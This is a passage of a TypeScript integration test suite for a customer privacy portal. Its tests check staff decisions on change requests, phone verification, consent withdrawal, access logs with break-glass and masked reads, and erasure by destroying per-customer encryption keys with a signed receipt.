          .selectFrom('audit_entry')
          .select(['actor_type', 'actor_id', 'outcome', 'reason'])
          .where('customer_id', '=', id)
          .where('action', '=', 'change_request.decide')
          .where('outcome', '=', 'done')
          .execute();
        expect(audit).toEqual([
          { actor_type: 'staff', actor_id: alice.id, outcome: 'done', reason: 'approve' },
        ]);

        // A rejection: nothing changes, and the customer reads why.
        const address = await ask({
          postalAddress: {
            lines: ['1 Rejected Road'],
            locality: 'Madrid',
            postalCode: '28001',
            country: 'ES',
          },
        });
        const reason = `No proof of address was sent ${unique('Reasoncanary')}`;
        const rejected = await decide(alice, address, {
          decision: 'reject',
          reason,
          taskId: task,
          purpose: LOYALTY,
        });
        expect(rejected.statusCode, rejected.body).toBe(200);
        expect(rejected.json()).toMatchObject({ id: address, status: 'rejected', reason });
        const mine = await changeRequests(portal);
        expect(mine.find((r) => r.id === address)).toEqual(
          expect.objectContaining({
            status: 'rejected',
            reason,
            decidedAt: clock.now().toISOString(),
          }),
        );
        expect(mine.find((r) => r.id === birth)?.status).toBe('approved');
        const after = await get('/api/v1/portal/me', portal);
        expect(
          after.json<{ data: { contact: { postalAddress?: object } } }>().data.contact
            .postalAddress,
        ).toBeUndefined();
        // The reason is sealed: it is in no store as plaintext.
        expect(countCanary(await rt.storeBytes(), reason)).toBe(0);

        // Once the task is closed, it grants no decision any more.
        const closed = await asStaff(alice, 'POST', `/api/v1/tasks/${task}/close`);
        expect(closed.statusCode, closed.body).toBe(200);
        const late = await ask({ birthDate: '1979-12-30' });
        const afterClose = await decide(alice, late, {
          ...approve,
          taskId: task,
          purpose: LOYALTY,
        });
        expect(afterClose.statusCode).toBe(404);
        expect((await changeRequests(portal)).find((r) => r.id === late)?.status).toBe('pending');
      });

      it('marks a phone changed with a code as verified, and one changed by staff without a code as not', async () => {
        const { id, canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        const phone = newPhone();
        const asked = await post(
          '/api/v1/portal/me/contact',
          { field: 'phone', value: phone.typed },
          portal,
        );
        expect(asked.statusCode, asked.body).toBe(202);
        const waiting = await get('/api/v1/portal/me', portal);
        expect(
          waiting.json<{ contactPoints: { phone?: object } }>().contactPoints.phone,
        ).toBeUndefined();
        const sms = await textTo(phone.e164);
        clock.advance(60_000);
        const done = await post(
          '/api/v1/portal/me/contact/verify',
          { code: codeIn(sms.text) },
          portal,
        );
        expect(done.statusCode, done.body).toBe(200);
        const verifiedAt = clock.now().toISOString();
        expect(done.json()).toEqual({ field: 'phone', verifiedAt });
        const me = await get('/api/v1/portal/me', portal);
        const points = me.json<{
          contactPoints: { phone?: { value: string; verifiedAt: string | null } };
        }>().contactPoints;
        expect(points.phone).toEqual({ value: phone.e164, verifiedAt });
        expect(points.phone?.verifiedAt).not.toBeNull();

        // Staff change the number without a code: it is shown, but not as verified.
        const other = newPhone();
        const changed = await rt.app.inject({
          method: 'PATCH',
          url: `/api/v1/customers/${id}`,
          headers: authHeader(agent),
          payload: { contact: { phone: other.typed } },
        });
        expect(changed.statusCode, changed.body).toBe(200);
        const later = await get('/api/v1/portal/me', portal);
        expect(later.json<{ contactPoints: { phone?: object } }>().contactPoints.phone).toEqual({
          value: other.e164,
          verifiedAt: null,
        });
      });
    });

    describe('consents and access', () => {
      it('lists purposes in the customer’s language, and a withdrawal says what was destroyed', async () => {
        const { canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        const es = await get('/api/v1/portal/consents?language=es', portal);
        expect(es.statusCode).toBe(200);
        const offers = es
          .json<{
            items: { purpose: string; name: string; state: string; canWithdraw: boolean }[];
          }>()
          .items.find((p) => p.purpose === 'personalized_offers');
        expect(offers).toMatchObject({
          state: 'active',
          canWithdraw: true,
          notice:
            'Usamos tus datos de contacto y preferencias para enviarte las ofertas que pediste, cuando las quieres.',
        });
        const inEnglish = (await get('/api/v1/portal/consents?language=en', portal))
          .json<{ items: { purpose: string; notice: string }[] }>()
          .items.find((p) => p.purpose === 'personalized_offers');
        expect(inEnglish?.notice).toBe(
          'We use your contact details and preferences to send offers you asked for, when you want them.',
        );
        expect(offers?.name).not.toBe(
          (await get('/api/v1/portal/consents?language=en', portal))
            .json<{ items: { purpose: string; name: string }[] }>()
            .items.find((p) => p.purpose === 'personalized_offers')?.name,
        );
        const withdrawn = await post(
          '/api/v1/portal/consents/personalized_offers/withdraw',
          undefined,
          portal,
        );
        expect(withdrawn.statusCode, withdrawn.body).toBe(200);
        expect(
          withdrawn.json<{ shredded: { categories: string[] } }>().shredded.categories,
        ).toContain('preferences');
        expect(countCanary(await rt.storeBytes(), canaries.interest)).toBe(0);
        const regranted = await post(
          '/api/v1/portal/consents/personalized_offers',
          undefined,
          portal,
        );
        expect(regranted.statusCode, regranted.body).toBe(200);
        const contract = await post(
          '/api/v1/portal/consents/loyalty_program/withdraw',
          undefined,
          portal,
        );
        expect(contract.statusCode).toBe(409);
      });

      it('shows who accessed the data and why', async () => {
        const { id, canaries } = await newCustomer();
        const read = await rt.app.inject({
          url: `/api/v1/customers/${id}?purpose=loyalty_program`,
          headers: authHeader(agent),
        });
        expect(read.statusCode).toBe(200);
        const portal = await signIn(canaries.email);
        const log = await get('/api/v1/portal/access-log', portal);
        expect(log.statusCode, log.body).toBe(200);
        const items = log.json<{
          items: {
            action: string;
            actor: { type: string; role: string };
            purpose: string;
            categories: string[];
            breakGlass: boolean;
          }[];
        }>().items;
        expect(items.find((e) => e.action === 'customer.read')).toMatchObject({
          actor: { type: 'integration', role: 'agent' },
          purpose: 'loyalty_program',
          categories: ['contact', 'identity'],
          breakGlass: false,
        });
        // The customer's own reads are not "accesses by others".
        expect(items.some((e) => e.actor.type === 'customer')).toBe(false);
      });

      it('names the staff member, role, purpose and task of a read, and marks break-glass and masked views', async () => {
        const { id, canaries } = await newCustomer();
        const alice = await staffMember('agent', `Alice ${unique('Shown')}`);
        const bob = await staffMember('agent', `Bob ${unique('Shown')}`);
        const carol = await staffMember('agent', `Carol ${unique('Shown')}`);
        const task = await openTask(alice, id);
        const read = (member: StaffMember, grant: Record<string, string>) =>
          asStaff(
            member,
            'GET',
            `/api/v1/customers/${id}?${new URLSearchParams({ purpose: LOYALTY, ...grant }).toString()}`,
          );
        const underTask = await read(alice, { taskId: task });
        expect(underTask.statusCode, underTask.body).toBe(200);
        expect(underTask.json<{ access?: string }>().access).toBe('granted');

        const portal = await signIn(canaries.email);
        const accesses = async () => {
          const res = await get('/api/v1/portal/access-log', portal);
          expect(res.statusCode, res.body).toBe(200);
          return res
            .json<{ items: AccessLogItem[] }>()
            .items.filter((e) => e.action === 'customer.read' && e.actor.type === 'staff');
        };
        expect(await accesses()).toEqual([
          expect.objectContaining({
            actor: { type: 'staff', role: 'agent', displayName: alice.displayName },
            purpose: LOYALTY,
            taskId: task,
            categories: ['contact', 'identity'],
            breakGlass: false,
            masked: false,
          }),
        ]);

        const glass = await asStaff(bob, 'POST', '/api/v1/break-glass', {
          customerId: id,
          purpose: LOYALTY,
          justification: 'Customer at the till, card blocked, no task open yet',
        });
        expect(glass.statusCode, glass.body).toBe(201);
        const underGlass = await read(bob, { breakGlassId: glass.json<{ id: string }>().id });
        expect(underGlass.statusCode, underGlass.body).toBe(200);
        expect(underGlass.json<{ access?: string }>().access).toBe('granted');
        // Without any grant, a staff member sees masked values only; that is shown too.
        const maskedRead = await read(carol, {});
        expect(maskedRead.statusCode, maskedRead.body).toBe(200);
        expect(maskedRead.json<{ access?: string }>().access).toBe('masked');

        const items = await accesses();
        expect(items).toHaveLength(3);
        expect(items.find((e) => e.actor.displayName === bob.displayName)).toEqual(
          expect.objectContaining({
            actor: { type: 'staff', role: 'agent', displayName: bob.displayName },
            purpose: LOYALTY,
            taskId: null,
            categories: ['contact', 'identity'],
            breakGlass: true,
            masked: false,
          }),
        );
        expect(items.find((e) => e.actor.displayName === carol.displayName)).toEqual(
          expect.objectContaining({
            actor: { type: 'staff', role: 'agent', displayName: carol.displayName },
            purpose: LOYALTY,
            taskId: null,
            breakGlass: false,
            masked: true,
          }),
        );
        expect(items.find((e) => e.actor.displayName === alice.displayName)?.breakGlass).toBe(
          false,
        );
      });
    });

    describe('leaving the programme', () => {
      it('erases everything after a fresh code and answers a receipt that verifies with the published key', async () => {
        const { id, canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        const early = await post('/api/v1/portal/withdraw', undefined, portal);
        expect(early.statusCode).toBe(403);
        expect((await get('/api/v1/portal/me', portal)).statusCode).toBe(200);
        await reverify(portal, canaries.email);
        const res = await post('/api/v1/portal/withdraw', undefined, portal);
        expect(res.statusCode, res.body).toBe(200);
        const body = res.json<{ receipt: Record<string, unknown>; signature: string }>();
        expect(body.receipt).toMatchObject({ customerId: id, type: 'erasure_receipt' });
        expect((body.receipt['categories'] as string[]).sort()).toEqual([
          'contact',
          'identity',
          'preferences',
        ]);
        expect((body.receipt['destroyedKeyIds'] as string[]).length).toBeGreaterThan(0);
        expect(typeof body.receipt['auditSeq']).toBe('number');
        const keys = await get('/api/v1/portal/keys?workspace=default');
        const publicKey = keys.json<{ publicKey: string }>().publicKey;
        expect(verifySignature(publicKey, receiptMessage(body.receipt), body.signature)).toBe(true);
        // Rebuilt from the README's description alone: the prefix, then the receipt's JSON with
        // its keys sorted.
        const keysSorted = Object.fromEntries(
          Object.keys(body.receipt)
            .sort()
            .map((k) => [k, body.receipt[k]]),
        );
        const independent = `custodia-erasure-receipt-v1\n${JSON.stringify(keysSorted)}`;
        expect(verifySignature(publicKey, independent, body.signature)).toBe(true);
        const forged = { ...body.receipt, categories: ['identity'] };
        expect(verifySignature(publicKey, receiptMessage(forged), body.signature)).toBe(false);
        // The session ended, and the address finds nothing any more.
        expect((await get('/api/v1/portal/me', portal)).statusCode).toBe(401);
        await askCode(canaries.email);
        await new Promise((r) => setTimeout(r, 200));
        expect(smtp.messages.filter((m) => m.to.includes(canaries.email))).toEqual([]);
        expect(hits(await rt.storeBytes(), canaries)).toEqual([]);
        expect(hits(rt.logs.text(), canaries)).toEqual([]);
      });

      it('destroys the data keys: ciphertext copied before the withdrawal opens with no key left after it', async () => {
        const { id, canaries } = await newCustomer();
        const portal = await signIn(canaries.email);
        // Values sealed under the customer's other keys: a change request and a waiting phone.
        const note = `Please fix ${unique('Notecanary')}`;
        const asked = await post(
          '/api/v1/portal/me/change-requests',
          { changes: { birthDate: '1975-05-05' }, note },
          portal,
        );
        expect(asked.statusCode, asked.body).toBe(201);
        const phone = newPhone();
        const pending = await post(
          '/api/v1/portal/me/contact',
          { field: 'phone', value: phone.typed },
          portal,
        );
        expect(pending.statusCode, pending.body).toBe(202);
        await reverify(portal, canaries.email);

        // The copy: every encrypted value of the customer's, as a backup would hold it.
        const fields = await rt.inspect.data
          .selectFrom('customer_field')
          .selectAll()
          .where('customer_id', '=', id)
          .execute();
        expect(fields.map((r) => r.field).sort()).toEqual([
          'email',
          'familyName',
          'givenName',
          'interests',
        ]);
        const requests = await rt.inspect.data
          .selectFrom('change_request')
          .selectAll()
          .where('customer_id', '=', id)
          .execute();
        const codes = await rt.inspect.data
          .selectFrom('portal_code')
          .selectAll()
          .where('customer_id', '=', id)
          .where('kind', '=', 'contact_change')
          .execute();
        const sealed = [
          ...fields.map((r) => ({
            category: r.category,
            field: r.field,
            ciphertext: r.ciphertext,
          })),
          ...requests.flatMap((r) =>
            r.note_sealed === null
              ? []
              : [{ category: 'requests', field: `note:${r.id}`, ciphertext: r.note_sealed }],
          ),
          ...codes.flatMap((r) =>
            r.value_sealed === null
              ? []
              : [{ category: 'portal', field: 'contact:phone', ciphertext: r.value_sealed }],
          ),
        ];
        expect(sealed).toHaveLength(6);
        const keysBefore = await rt.inspect.keys
          .selectFrom('data_key')
          .select(['id', 'category'])
          .where('customer_id', '=', id)
          .execute();
        expect(keysBefore.map((k) => k.category)).toEqual(
          expect.arrayContaining(['identity', 'contact', 'preferences', 'requests', 'portal']),
        );

        /** Every value of the copy that some key of the live key store opens. */
        const openCopy = async (): Promise<string[]> => {
          const keys = await rt.inspect.keys
            .selectFrom('data_key')
            .selectAll()
            .where('workspace_id', '=', rt.workspaceId)
            .execute();
          const opened: string[] = [];
          for (const item of sealed) {
            for (const k of keys) {
              try {
                const key = rt.ctx.keyProvider.unwrapDataKey(k.wrapped, k.kek_version, {
                  workspaceId: k.workspace_id,
                  customerId: k.customer_id,
                  category: k.category,
                  keyId: k.id,
                });
                opened.push(
                  openField(key, item.ciphertext, {
                    workspaceId: rt.workspaceId,
                    customerId: id,
                    category: item.category,
                    field: item.field,
                    keyId: k.id,
                  }),
                );
              } catch {
                // Not this key.
              }
            }
          }
          return opened;
        };
        // Before, the live key store opens the copy: the check can tell the difference.
        const before = await openCopy();
        expect(before).toHaveLength(6);
        // Field values are stored JSON-encoded; the sealed extras as they are.
        const opened = before.join('\n');
        for (const value of [
          canaries.givenName,
          canaries.email,
          canaries.interest,
          note,
          phone.e164,
        ]) {
          expect(opened).toContain(value);
        }

        const res = await post('/api/v1/portal/withdraw', undefined, portal);
        expect(res.statusCode, res.body).toBe(200);
        const receipt = res.json<{ receipt: { destroyedKeyIds: string[] } }>().receipt;
        expect([...receipt.destroyedKeyIds].sort()).toEqual(keysBefore.map((k) => k.id).sort());

        // The keys and the rows are gone; the copy opens with no key that is left.
        expect(
          await rt.inspect.keys
            .selectFrom('data_key')
            .select('id')
            .where('customer_id', '=', id)
            .execute(),
        ).toEqual([]);
        for (const table of [
          'customer_field',
          'change_request',
          'portal_code',
          'portal_session',
          'contact_verification',
        ] as const) {
          const left = await rt.inspect.data
            .selectFrom(table)
            .select('customer_id')
            .where('customer_id', '=', id)
            .execute();
          expect(left, table).toEqual([]);
        }
        expect(await openCopy()).toEqual([]);
      });
    });
  });
});
